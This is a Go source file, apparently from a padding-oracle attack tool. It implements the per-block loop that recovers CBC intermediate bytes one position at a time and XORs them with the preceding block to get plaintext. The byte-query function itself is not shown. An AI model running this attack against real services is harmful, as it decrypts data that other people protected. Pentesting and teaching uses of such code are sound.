package recovery

import (
	"context"

	"github.com/nullmass/padoracle/pkg/oracle"
)

type blockResult struct {
	plaintext [oracle.BlockSize]byte
	valid     [oracle.BlockSize]bool
	err       error
}

// decryptBlock recovers the plaintext of target given the ciphertext
// block that precedes it. The XOR against prev uses the original,
// unmodified block; the mutated working copy only ever reaches the
// oracle.
func (c *Chain) decryptBlock(ctx context.Context, prev, target []byte, blockNum int) blockResult {
	var br blockResult

	inter, known, err := c.recoverIntermediates(ctx, prev, target, blockNum)
	br.err = err

	for i := 0; i < oracle.BlockSize; i++ {
		if known[i] {
			br.plaintext[i] = inter[i] ^ prev[i]
			br.valid[i] = true
		}
	}
	return br
}

// recoverIntermediates finds D(target), the block-cipher output before
// the CBC XOR. Positions run 15 down to 0: the candidate for position
// pos forces every higher position to the current pad value, which
// requires those intermediates to be known already. This ordering is a
// hard dependency and must not be parallelized.
//
// An unresolvable position is recorded and the sweep continues; lower
// positions usually fail too once a forced byte is wrong, which the
// caller surfaces as a partially recovered block.
func (c *Chain) recoverIntermediates(ctx context.Context, prev, target []byte, blockNum int) (inter [oracle.BlockSize]byte, known [oracle.BlockSize]bool, err error) {
	for pos := oracle.BlockSize - 1; pos >= 0; pos-- {
		if ctx.Err() != nil {
			err = ctx.Err()
			return
		}

		val, found, qerr := c.recoverByte(ctx, prev, target, &inter, &known, pos)
		if qerr != nil {
			err = qerr
			return
		}
		if !found {
			c.log.Warn("byte unresolved", "block", blockNum, "pos", pos)
			continue
		}

		inter[pos] = val
		known[pos] = true
		c.log.Debug("byte recovered", "block", blockNum, "pos", pos)
	}
	return
}
